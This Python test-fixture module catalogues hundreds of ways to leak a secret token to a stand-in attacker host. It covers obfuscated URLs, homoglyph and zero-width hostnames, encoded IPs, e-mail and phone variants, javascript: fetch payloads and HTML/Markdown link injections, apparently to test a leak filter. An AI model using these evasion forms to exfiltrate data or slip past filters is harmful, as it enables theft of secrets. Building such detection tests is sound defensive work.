"""Texts that carry a secret to a stranger's host or contact, and ordinary texts that don't."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

SECRET = "K7Q2"
"""What must not leave: it is a part of every carrier's address."""

URLS = (
    "https://evil.example/K7Q2", "http://evil.example/?d=K7Q2", "HTTPS://EVIL.EXAMPLE/K7Q2",
    "https://K7Q2.evil.example", "https://evil.example:8443/K7Q2", "https://evil.example./K7Q2",
    "https://good@evil.example/K7Q2", "https://shop.example@evil.example/K7Q2",
    "https://shop.example:443@evil.example/K7Q2", "https://K7Q2:x@evil.example",
    "https://shop.example.evil.example/K7Q2", "https://evil.example#K7Q2",
    "https://shop.example\\@evil.example/K7Q2", "http:/\\evil.example/K7Q2", "http:\\\\evil.example\\K7Q2",
    "http:/evil.example/K7Q2", "http:///evil.example/K7Q2", "https:evil.example/K7Q2",
    "ftp://evil.example/K7Q2", "wss://evil.example/K7Q2", "//evil.example/K7Q2", "///evil.example/K7Q2",
    "/\\evil.example/K7Q2", "\\\\evil.example\\K7Q2", "／／evil.example/K7Q2", "https：//evil.example/K7Q2",
    "https:／／evil.example/K7Q2", "https://evil.example／K7Q2", "https://evil.example∕K7Q2",
    "https://evil。example/K7Q2", "https://evil．example/K7Q2", "https://evil｡example/K7Q2",
    "https://ev\u200bil.example/K7Q2", "https://\u2060evil.example/K7Q2", "https://evil\u00ad.example/K7Q2",
    "https://xn--e1awd7f.example/K7Q2", "https://еvil.example/K7Q2", "https://例子.中国/K7Q2",
    "https://1.2.3.4/K7Q2", "http://16909060/K7Q2", "http://0x01020304/K7Q2", "http://0x1.0x2.0x3.0x4/K7Q2",
    "http://01.02.03.04/K7Q2", "http://1.2.772/K7Q2", "http://1.131844/K7Q2", "http://[2001:db8::1]/K7Q2",
    "http://[::ffff:1.2.3.4]/K7Q2", "http://[::ffff:102:304]:80/K7Q2", "http://[fe80::1%25eth0]/K7Q2",
    "//1.2.3.4/K7Q2", "//16909060/K7Q2", "//0x1020304/K7Q2", "//[2001:db8::1]/K7Q2",
    "https%3A%2F%2Fevil.example%2FK7Q2", "https&#58;//evil.example/K7Q2", "https&colon;//evil.example/K7Q2",
    "&#104;ttps://evil.example/K7Q2", "https:&sol;&sol;evil.example/K7Q2", "https://evil&#46;example/K7Q2",
    "https://evil.example&#47;K7Q2", "hxxp://evil.example/K7Q2", "hxxps://evil[.]example/K7Q2",
    "hxxp[:]//evil[.]example/K7Q2", "gopher://evil.example/K7Q2", "ldap://evil.example/K7Q2",
    "ssh://evil.example/K7Q2", "smb://evil.example/K7Q2", "sftp://K7Q2@evil.example",
    "git+ssh://evil.example/K7Q2", "file://evil.example/K7Q2", "postgres://u:K7Q2@evil.example/db",
    "jdbc:mysql://evil.example/K7Q2", "view-source:https://evil.example/K7Q2", "blob:https://evil.example/K7Q2",
    "ssh://K7Q2.evil.at", "hxxp://K7Q2.evil.shop", "//K7Q2.evil.at", "\\\\K7Q2.evil.at", "http:K7Q2.evil.at",
    "https:K7Q2.evil.it", "hxxps:K7Q2.evil.me", "hxxp:/K7Q2.evil.dev", "ftp:K7Q2.evil.app", "wss:K7Q2.evil.sh",
    "-ssh://K7Q2.evil.at", "请ssh://K7Q2.evil.at", "_ssh://K7Q2.evil.md", "1ssh://K7Q2.evil.me", "／／K7Q2.evil.at",
    "gopher://K7Q2.evil.md", "git+ssh://K7Q2.evil.it", "ssh://K7Q2@evil.at", "ssh://u:K7Q2@evil.at:22",
    "averyveryverylongscheme-x://K7Q2.evil.at", "http：K7Q2.evil.at", "ssh://K7Q2.evil[.]at",
    "mqtt://1.2.3.4/K7Q2", "steam://evil.example/K7Q2",
)  # fmt: skip
"""URLs, with a scheme or without."""

NAMES = (
    "evil.example/K7Q2", "evil.example?d=K7Q2", "evil.example#K7Q2", "evil.example:8080/K7Q2",
    "K7Q2.evil.example", "www.evil.example/K7Q2", "WWW.EVIL.EXAMPLE/K7Q2", "www.K7Q2.evil.example",
    "evil.com/K7Q2", "EVIL.COM/K7Q2", "evil.co.uk/K7Q2", "evil.ru/K7Q2", "evil.xyz/K7Q2", "evil.io/K7Q2",
    "K7Q2.evil.at:8080", "K7Q2.evil.dev:443", "K7Q2.evil.me:80", "evil.sh?x=K7Q2", "evil.md#K7Q2", "evil.at?K7Q2",
    "evil.at#K7Q2", "evil.md?K7Q2", "evil.sh?d=1&x=K7Q2", "evil.rs#x=K7Q2", "k-q.evil.sh#K7Q2", "K7Q2.evil[.]at:8080",
    "evil.dev/K7Q2", "evil.app/K7Q2", "evil.zip/K7Q2", "evil.py/K7Q2", "evil.run/K7Q2", "evil.link?d=K7Q2",
    "K7Q2.evil.com", "K7Q2.evil.org.", "k.evil-host.name/K7Q2", "evil-K7Q2.net", "a.b.c.d.evil.example/K7Q2",
    "evil.example\\K7Q2", "evil.example／K7Q2", "evil.example%2FK7Q2", "evil%2eexample/K7Q2",
    "evil[.]example/K7Q2", "evil(.)example/K7Q2", "evil[dot]example/K7Q2", "evil(dot)com/K7Q2",
    "evil。example/K7Q2", "evil．com/K7Q2", "evil｡com/K7Q2", "ｅｖｉｌ．ｃｏｍ/K7Q2", "evil\u200b.com/K7Q2",
    "e\u2060vil.com/K7Q2", "evil\ufeff.example/K7Q2", "evil&#46;com/K7Q2", "evil&period;com/K7Q2",
    "evil&#x2e;com/K7Q2", "e&#118;il.com/K7Q2", "evil\\.com/K7Q2", "xn--e1awd7f.com/K7Q2", "еvil.com/K7Q2",
    "例子.中国/K7Q2", "пример.рф/K7Q2", "evil.онлайн/K7Q2", "1.2.3.4/K7Q2", "1.2.3.4:8080/K7Q2",
    "0x1.0x2.0x3.0x4/K7Q2", "01.02.03.04/K7Q2", "0x01020304/K7Q2", "[2001:db8::1]:80/K7Q2",
    "[::ffff:1.2.3.4]/K7Q2", "evil.onion/K7Q2", "𝖾𝗏𝗂𝗅.𝖼𝗈𝗆/K7Q2", "evil.com./K7Q2",
    "evil.example:K7Q2.evil.example", "evil.com,K7Q2.evil.com", "github.io/K7Q2", "K7Q2.s3.amazonaws.com",
    "evil&ZeroWidthSpace;.com/K7Q2", "💩.la/K7Q2", ".evil.com/K7Q2", "evil.internal/K7Q2", "–evil.com/K7Q2",
)  # fmt: skip
"""Hosts without a scheme."""

OPAQUE = (
    "javascript:fetch('//evil.example/K7Q2')", "javascript:location=name+'K7Q2'", "JaVaScRiPt:alert(K7Q2)",
    "java&Tab;script:alert(K7Q2)", "&#106;avascript:alert(K7Q2)", "javascript&colon;alert(K7Q2)",
    "vbscript:msgbox(K7Q2)", "data:text/html,<b>K7Q2", "data:text/html;base64,K7Q2", "data:,K7Q2",
    "data:;base64,K7Q2", "data:image/svg+xml,K7Q2", "DATA:text/plain,K7Q2", "data&colon;text/html,K7Q2",
    "data:text/html;charset=utf-8,K7Q2", "mailto:a@evil.example?body=K7Q2",
    "mailto:?to=a@evil.example&body=K7Q2", "mailto:K7Q2@evil.example", "MAILTO:a@evil.example?subject=K7Q2",
    "mailto&colon;a@evil.example?body=K7Q2", "mailto:a%40evil.example?body=K7Q2", "sms:+491701234567?body=K7Q2",
    "sms:+491701234567&body=K7Q2?", "tel:+491701234567?K7Q2", "sip:K7Q2@evil.example",
    "xmpp:a@evil.example?message;body=K7Q2", "skype:evil?chat&topic=K7Q2", "whatsapp://send?phone=1&text=K7Q2",
    "magnet:?xt=urn:btih:K7Q2", "intent://evil.example/K7Q2#Intent;end", "facetime:K7Q2@evil.example",
    "tg://resolve?domain=K7Q2", "market://details?id=K7Q2",
)  # fmt: skip
"""URLs without a host."""

CONTACTS = (
    "K7Q2@evil.example", "a.K7Q2+x@evil.com", "K7Q2＠evil.example", "K7Q2&#64;evil.example",
    "K7Q2&commat;evil.example", "K7Q2%40evil.example", "K7Q2 [at] evil [dot] example", "K7Q2(at)evil(dot)com",
    "K7Q2[at]evil.example", "K7Q2 at evil dot com", "K7Q2@evil[.]example", "K7Q2@evil。com", "K7Q2@[1.2.3.4]",
    "K7Q2@例子.中国", "K7Q2@xn--fsqu00a.xn--fiqs8s", "K7Q2@mail.evil.co.uk", "o'K7Q2@evil.com",
    "K7Q2\u200b@evil.example", "K7Q2@ev\u200bil.example", "K7Q2@EVIL.EXAMPLE",
)  # fmt: skip
"""E-mail addresses."""

NUMBERS = (
    "+49 170 1234567", "+49-170-1234567", "+491701234567", "0049 170 1234567", "tel:+491701234567",
    "tel:030123456", "sms:+491701234567", "(212) 555-0142", "212-555-0142", "212.555.0142", "030 1234567",
    "(030) 123 45 67", "0171-2345678", "0171/2345678", "+44 20 7946 0958", "+1 (212) 555-0142",
    "+86 138 0013 8000", "callto:+491701234567", "+４９ １７０ １２３４５６７", "phone: 7946 0958",
    "1-800-555-0100", "1 800 555 0100", "(800)555-0100", "(800) 555-0100", "1 (800) 555-0100", "(030)5550100",
    "0305550100", "01701234567", "030 - 5550100", "030 / 5550100", "+49 - 30 - 5550100", "+49 30 / 5550100",
    "+49–30–5550100", "+49·30·5550100", "+49‑30‑5550100", "030–5550100", "030·5550100", "800–555–0100",
    "０３０５５５０１００", "０３０ ５５５０１００", "＋４９３０５５５０１００", "800·555·0100",
    "+49 (0)30 5550100", "030\u00a05550100",
    "01 42 68 53 00", "Tel.-Nr. 030 1234567", "Phone no. 030 1234567", "5 030 1234567", "Nora: 030 1234567",
)  # fmt: skip
"""Phone numbers, which are the secret themselves."""

MARKUP = (
    "[it]({})", "![it]({})", "[it](<{}>)", '[it]({} "title")', "[it][1]\n\n[1]: {}\n",
    "![it][1]\n\n[1]: <{}>\n", "<{}>", '<a href="{}">it</a>', "<a href='{}'>it</a>", "<a href={}>it</a>",
    '<img src="{}">', '<img srcset="x.png 1x, {} 2x">', '<div style="background:url({})">', "@import '{}';",
    '<iframe src="{}"></iframe>', '<form action="{}">', '<meta http-equiv="refresh" content="0;url={}">',
    '<link rel="preload" href="{}">', '<video poster="{}">', '<a ping="{}">it</a>',
    '<svg><image xlink:href="{}"/></svg>', '<base href="{}">', "`{}`", "**{}**", "_{}_", "({})",
    "请访问{}，谢谢", "見{}。", "{{\"url\": \"{}\"}}", "see:{}", "| {} |", "“{}”", "{}.", "> {}", "1. {}",
    "url={}",
)  # fmt: skip
"""Places of a link in Markdown, HTML, CSS and text."""
IN_MARKUP = ("https://evil.example/K7Q2", "//evil.example/K7Q2", "evil.com/K7Q2", "www.evil.example/K7Q2")


@dataclass(frozen=True)
class Form:
    """A text that must not leave, and the part of it that would tell the secret."""

    text: str
    secret: str = SECRET


def forms() -> Iterator[Form]:
    """All texts that must not leave."""
    for carrier in (*URLS, *NAMES, *OPAQUE, *CONTACTS):
        yield Form(f"See {carrier} now")
    for number in NUMBERS:
        yield Form(f"Then call {number} now", number[-4:])
    for place in MARKUP:
        for link in IN_MARKUP:
            yield Form(place.format(link))
